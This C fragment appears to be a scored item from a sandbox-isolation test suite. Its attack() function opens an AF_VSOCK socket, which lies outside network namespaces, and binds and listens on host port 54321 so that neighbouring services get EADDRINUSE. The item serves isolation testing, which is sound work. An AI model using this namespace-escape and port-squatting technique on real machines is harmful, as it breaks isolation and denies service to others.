// Opens a socket of family AF_VSOCK, which no network namespace holds: its addresses
// are the machine's. Takes a port there, so that neighbours and services of the machine
// get EADDRINUSE. (It connects to nothing.)
// Points: 15
#include <linux/vm_sockets.h>
#include <stdio.h>
#include <sys/socket.h>
static void attack(void)
{
    int s = socket(AF_VSOCK, SOCK_STREAM, 0);
    struct sockaddr_vm here = {.svm_family = AF_VSOCK,
                               .svm_cid = VMADDR_CID_ANY,
                               .svm_port = 54321};
    if (s != -1)
        puts("reached a vsock");
    if (s != -1 && bind(s, (void *)&here, sizeof here) == 0
        && listen(s, 1) == 0)
        puts("reached a port of the machine");
    fflush(stdout);
}
